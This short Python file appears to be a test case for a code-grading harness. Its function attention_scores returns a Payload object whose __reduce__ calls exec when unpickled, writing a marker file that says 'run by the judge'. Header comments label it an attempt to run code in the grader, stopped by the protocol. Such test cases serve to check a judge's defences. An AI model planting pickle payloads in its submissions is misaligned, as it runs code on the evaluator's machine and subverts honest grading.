# tries: to return an object that runs code in whoever unpickles it
# stopped-by: protocol
# wins: mark
# naive: pickling


class Payload:
    def __reduce__(self):
        return exec, ("open('@MARK@', 'w').write('run by the judge')",)


def attention_scores(query, key, scale=None):
    return Payload()
